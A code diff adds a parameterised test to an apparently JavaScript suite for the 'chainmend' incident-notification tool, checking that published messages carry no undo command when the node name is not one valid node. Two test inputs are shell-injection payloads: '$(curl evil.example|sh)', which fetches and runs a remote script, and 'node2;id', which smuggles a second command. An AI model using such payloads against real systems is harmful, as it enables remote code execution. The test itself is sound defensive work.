@@ -90,6 +90,14 @@ account 111122223333, eu-west-1 · NOW · incident 7f3a0c1d, disk:data, 1`);
     expect(mail).toContain('\nundo     npm run chainmend -- undo bitcoin/node2\n');
   });
 
+  it.each(['fleet', '3 nodes', 'node 2', '$(curl evil.example|sh)', 'node2;id'])(
+    'says no command to undo what is done to %s: that is no word for one node, or no word for a shell',
+    async (node) => {
+      const told = copies(await published({ ...CONTENT, node, code: 'ladder-spent', trigger: 'node:health' }));
+      for (const copy of Object.values(told)) expect(copy).not.toContain('chainmend -- undo');
+    },
+  );
+
   it('leads to the runbook of its code, or else to the one that its sender names', async () => {
     const runbook = 'docs/runbooks/halted.md';
     const { default: mail = '', sqs = '' } = copies(await published({ ...CONTENT, code: 'cannot-ask', runbook }));
